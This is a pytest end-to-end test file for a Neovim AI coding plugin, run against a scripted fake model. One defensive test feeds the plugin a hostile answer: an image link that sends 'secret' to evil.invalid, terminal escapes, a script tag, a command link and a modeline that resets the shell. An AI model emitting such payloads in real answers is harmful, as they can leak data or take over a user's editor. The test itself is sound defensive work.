"""Asking from Neovim, whole: the real server, and a model that says what the test wants."""

from __future__ import annotations

import os
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from e2e.nvim.asking import close_answer
from e2e.nvim.conftest import SERVER, Start, lua
from e2e.nvim.neovim import Neovim, eventually
from e2e.nvim.upstream import ScriptedChat

pytestmark = [pytest.mark.editor, pytest.mark.timeout(60)]

CODE = "import math\n\n\ndef area(w, h):\n    total = w + h\n    return total\n\n\nprint(area(2, 3))\n"
FIXED = "```python\ndef area(w, h):\n    total = w * h\n    return total\n```"
HELD = FIXED.replace("    return", "|    return")


@pytest.fixture(scope="module")
def chat() -> Iterator[ScriptedChat]:
    server = ScriptedChat()
    yield server
    server.close()


@pytest.fixture(scope="module")
def asking_nvim(start: Start, chat: ScriptedChat) -> Neovim:
    settings = {
        "cache": {"enabled": False},
        "inline": {"provider": "scripted", "model": "scripted-model"},
        "chat": {"provider": "scripted", "model": "scripted-model"},
        "providers": {"scripted": {"baseUrl": chat.url}},
    }
    return start(f"require('picode').setup({{ automatic = false, cmd = {lua(SERVER)}, settings = {lua(settings)} }})")


@pytest.fixture
def nvim(asking_nvim: Neovim, project: Path) -> Iterator[Neovim]:
    """Neovim in a Python file, with the server at work and the cursor in a function."""
    asking_nvim.screen.interruptions.clear()
    asking_nvim.edit(project / "shapes.py", CODE)
    asking_nvim.wait_for_server()
    asking_nvim.keys("5G")
    yield asking_nvim
    asking_nvim.keys("<Esc>")
    asking_nvim.command("PiCode stop")
    eventually(
        lambda: asking_nvim.lua("return require('picode.asks').summary()") == "", explain=lambda: asking_nvim.evidence
    )
    asking_nvim.lua("require('picode.window').close()")
    assert asking_nvim.screen.interruptions == []


def answer(nvim: Neovim) -> str:
    """The text of the latest answer."""
    return nvim.lua(
        "local thread = require('picode.thread').latest() "
        "return thread and table.concat(vim.api.nvim_buf_get_lines(thread.bufnr, 0, -1, false), '\\n') or ''"
    )


def bytes_of(nvim: Neovim, path: Path) -> bytes:
    nvim.api.command("silent write!")
    return path.read_bytes()


def test_an_explanation_is_streamed(nvim: Neovim, chat: ScriptedChat, photograph: Callable[[Neovim], None]) -> None:
    chat.will_say("The **area** of a |rectangle.\n\n```python\narea(2, 3)\n```\n", held=True)
    nvim.keys(":4,6PiCode /explain the sum<CR>")
    frame = nvim.screen.wait_for(lambda frame: "The **area** of a" in str(frame))
    assert "rectangle" not in str(frame)
    nvim.screen.wait_for(lambda frame: "writing …" in str(frame))
    chat.release()
    nvim.screen.wait_for(lambda frame: "done" in str(frame) and "rectangle." in str(frame))
    photograph(nvim)
    assert "scripted scripted-model" in str(nvim.screen.now)
    asked = chat.said[0][-1]
    assert "total = w + h" in asked
    assert "the sum" in asked
    assert "> /explain the sum" in answer(nvim)
    assert "Shown to the model:" in answer(nvim)
    assert nvim.command("PiCode status").startswith("PiCode:")


def test_a_follow_up_knows_what_was_said(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say("It adds.", "Since somebody was tired.")
    nvim.keys(":PiCode /explain<CR>")
    nvim.screen.wait_for(lambda frame: "It adds." in str(frame) and "done" in str(frame))
    nvim.keys("iwhy?<CR>")
    nvim.screen.wait_for(lambda frame: "Since somebody was tired." in str(frame))
    assert "It adds." in chat.said[1]
    assert chat.said[1][-1].endswith("why?")
    assert answer(nvim).count("> why?") == 1


@pytest.mark.parametrize("line_end", ["\n", "\r\n"], ids=["unix", "dos"])
def test_a_fix_is_shown_live_and_taken_and_undone_to_the_byte(
    nvim: Neovim, chat: ScriptedChat, project: Path, line_end: str, photograph: Callable[[Neovim], None]
) -> None:
    path = project / "lines.py"
    nvim.edit(path, CODE.replace("\n", line_end))
    nvim.wait_for_server()
    before = bytes_of(nvim, path)
    chat.will_say(HELD, held=True)
    nvim.keys(":4,6PiCode /fix<CR>")
    nvim.screen.wait_for(lambda frame: "    total = w * h" in frame.lines)
    photograph(nvim)
    assert nvim.text == CODE.rstrip("\n")
    chat.release()
    nvim.screen.wait_for(lambda frame: "ga accepts" in str(frame))
    nvim.keys("ga")
    eventually(lambda: nvim.text == CODE.replace("w + h", "w * h").rstrip("\n"), explain=lambda: nvim.evidence)
    assert bytes_of(nvim, path) == CODE.replace("w + h", "w * h").replace("\n", line_end).encode()
    nvim.keys("u")
    eventually(lambda: nvim.text == CODE.rstrip("\n"))
    assert bytes_of(nvim, path) == before


def test_a_fix_is_discarded_or_tried_again(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say(FIXED, FIXED.replace("w * h", "h * w"))
    nvim.keys(":PiCode /fix<CR>")
    nvim.screen.wait_for(lambda frame: "ga accepts" in str(frame) and "w * h" in str(frame))
    nvim.keys("gA")
    nvim.screen.wait_for(lambda frame: "ga accepts" in str(frame) and "h * w" in str(frame))
    nvim.keys("gC")
    eventually(lambda: nvim.lua("return #vim.api.nvim_list_tabpages()") == 2, explain=lambda: nvim.evidence)
    nvim.screen.wait_for(lambda frame: "h * w" in str(frame) and "w + h" in str(frame))
    nvim.keys("q")
    eventually(lambda: nvim.lua("return #vim.api.nvim_list_tabpages()") == 1)
    nvim.keys("gX")
    nvim.screen.wait_for(lambda frame: "h * w" not in str(frame))
    assert nvim.text == CODE.rstrip("\n")


def test_an_edit_finds_its_place_after_typing_elsewhere(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say(HELD, held=True)
    nvim.keys(":4,6PiCode /fix<CR>")
    nvim.screen.wait_for(lambda frame: "    total = w * h" in frame.lines)
    nvim.keys("ggOimport os<Esc>")
    chat.release()
    nvim.screen.wait_for(lambda frame: "ga accepts" in str(frame))
    nvim.keys("ga")
    eventually(
        lambda: nvim.text == f"import os\n{CODE.replace('w + h', 'w * h')}".rstrip("\n"), explain=lambda: nvim.text
    )


@pytest.mark.parametrize("command", ["/explain", "/fix"])
def test_stopping_reaches_the_socket_of_the_model(nvim: Neovim, chat: ScriptedChat, command: str) -> None:
    chat.will_say(HELD, held=True)
    nvim.screen.wait_for(lambda frame: "w * h" not in str(frame))
    nvim.keys(f":4,6PiCode {command}<CR>")
    nvim.screen.wait_for(lambda frame: "total = w * h" in str(frame))
    nvim.keys("<C-c>" if command == "/explain" else "gX")
    assert chat.hung_up.wait(5)
    eventually(lambda: nvim.lua("return require('picode.asks').summary()") == "")
    if command == "/explain":
        nvim.screen.wait_for(lambda frame: "stopped" in str(frame))
        assert "total = w * h" in answer(nvim)
    assert "w * h" not in (project_text(nvim))


def test_what_is_stopped_at_once_is_never_heard_of_again(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say("Too late.")
    nvim.lua("vim.cmd('PiCode /explain') require('picode.asks').stop_all()")
    nvim.screen.wait_for(lambda frame: "stopped" in str(frame))
    assert nvim.lua("return require('picode.asks').summary()") == ""
    chat.will_say("The next.")
    close_answer(nvim)
    nvim.keys(":PiCode ask next?<CR>")
    nvim.screen.wait_for(lambda frame: "The next." in str(frame))
    assert "Too late." not in str(nvim.screen.now)
    assert nvim.lua("return require('picode.asks').summary()") == ""


def project_text(nvim: Neovim) -> str:
    return nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(vim.fn.bufnr('shapes.py'), 0, -1, false), '\\n')")


def test_a_failing_provider_says_what_to_do(
    nvim: Neovim, chat: ScriptedChat, photograph: Callable[[Neovim], None]
) -> None:
    chat.will_fail(401, "Incorrect API key provided.")
    nvim.keys(":PiCode /explain<CR>")
    nvim.screen.wait_for(lambda frame: "Failed: " in str(frame) and "failed" in str(frame))
    photograph(nvim)
    assert "key" in answer(nvim)


def test_a_hostile_answer_is_harmless(nvim: Neovim, chat: ScriptedChat, photograph: Callable[[Neovim], None]) -> None:
    nvim.command("set modeline")
    shell = nvim.lua("return vim.o.shell")
    chat.will_say(
        "\x1b[2J\x1b]0;x\x07[run](command:workbench.action.quit) ![p](https://evil.invalid/?q=secret)\n"
        "<script>alert(1)</script>\u202e\nvim: set modeline shell=/bin/false:\n"
    )
    nvim.keys(":PiCode /explain<CR>")
    nvim.screen.wait_for(lambda frame: "done" in str(frame))
    photograph(nvim)
    text = answer(nvim)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "](command:" not in text
    assert "![" not in text.replace("\\!\\[", "")
    nvim.command("doautocmd BufReadPost")
    assert nvim.lua("return vim.o.shell") == shell


def server_process(nvim: Neovim) -> int:
    """The process of the server, by what Neovim started."""
    children = Path(f"/proc/{nvim.process.pid}/task/{nvim.process.pid}/children").read_text().split()
    found = [int(child) for child in children if b"picode" in Path(f"/proc/{child}/cmdline").read_bytes()]
    assert found
    return found[-1]


def kept(nvim: Neovim) -> str:
    """The latest conversation, as the server keeps it."""
    return nvim.lua(
        """
        local client = vim.lsp.get_clients({ name = 'picode' })[1]
        local function call(command, argument)
          return client:request_sync('workspace/executeCommand', { command = command, arguments = { argument } }, 2000).result
        end
        return call('picode.conversation', { id = call('picode.conversations', { limit = 1 })[1].id }).text
        """
    )


def test_a_server_that_is_killed_leaves_what_had_arrived(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say("Half of a sentence |", held=True)
    nvim.keys(":PiCode ask what about killing?<CR>")
    nvim.screen.wait_for(lambda frame: "Half of a sentence" in str(frame))
    before = nvim.lua("return vim.lsp.get_clients({ name = 'picode' })[1].id")
    eventually(lambda: "Half of a sentence" in kept(nvim))  # within a fifth of a second
    os.kill(server_process(nvim), signal.SIGKILL)
    nvim.screen.wait_for(lambda frame: "Failed: The server ended before the answer did." in str(frame))
    eventually(
        lambda: nvim.lua("local c = vim.lsp.get_clients({ name = 'picode' })[1] return c and c.id or 0") > before,
        20,
        lambda: nvim.evidence,
    )
    close_answer(nvim)
    nvim.lua("Select = vim.ui.select vim.ui.select = function(items, options, choose) choose(items[1]) end")
    nvim.command("PiCode conversations killing")
    nvim.screen.wait_for(lambda frame: "Half of a sentence" in str(frame) and "Broken off." in str(frame))
    nvim.lua("vim.ui.select = Select")


def test_a_commit_message_is_written_from_what_is_staged(nvim: Neovim, chat: ScriptedChat, project: Path) -> None:
    git = ["git", "-C", str(project), "-c", "user.name=x", "-c", "user.email=x@example.org"]
    subprocess.run(["git", "init", "--quiet", str(project)], check=True)
    (project / "a.py").write_text("answer = 42\n")
    subprocess.run([*git, "add", "a.py"], check=True)
    template = "\n# Please enter the commit message for your changes.\n"
    nvim.edit(project / ".git" / "COMMIT_EDITMSG", template)
    nvim.wait_for_server()
    nvim.command("PiCode trust")
    chat.will_say("```\nAdd the answer\n\nIt was asked for.\n```")
    nvim.keys(":PiCode /commit<CR>")
    eventually(
        lambda: nvim.text == f"Add the answer\n\nIt was asked for.\n{template.rstrip()}", explain=lambda: nvim.evidence
    )
    assert "+answer = 42" in chat.said[0][-1]
    nvim.keys("u")
    eventually(lambda: nvim.text == template.rstrip("\n"))


def test_code_actions_offer_the_same(nvim: Neovim, chat: ScriptedChat) -> None:
    chat.will_say("It adds.", FIXED)
    run = (
        "vim.lsp.buf.code_action({ apply = true, range = { start = { 4, 0 }, ['end'] = { 6, 0 } }, "
        "filter = function(action) return action.title == ... end })"
    )
    nvim.lua(run.replace("...", "'PiCode: Explain'"))
    nvim.screen.wait_for(lambda frame: "It adds." in str(frame))
    close_answer(nvim)
    nvim.lua(run.replace("...", "'PiCode: Refactor'"))
    nvim.screen.wait_for(lambda frame: "ga accepts" in str(frame))
    nvim.keys("ga")
    eventually(lambda: "w * h" in nvim.text)
    nvim.keys("u")


def test_own_commands_are_completed_and_run(nvim: Neovim, chat: ScriptedChat) -> None:
    folder = nvim.folder / "config" / "picode" / "commands"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "haiku.md").write_text("---\ntitle: Haiku\ndescription: A haiku.\noutput: prose\n---\nWrite a haiku.\n")
    eventually(lambda: nvim.lua("return vim.fn.getcompletion('PiCode /hai', 'cmdline')") == ["/haiku"])
    chat.will_say("An old silent pond")
    nvim.keys(":PiCode /haiku<CR>")
    nvim.screen.wait_for(lambda frame: "An old silent pond" in str(frame))
    assert "Write a haiku." in str(chat.bodies[0])


def test_help_names_all_commands(nvim: Neovim) -> None:
    nvim.keys(":PiCode /help<CR>")
    nvim.screen.wait_for(lambda frame: "/explain" in str(frame) and "done" in str(frame))
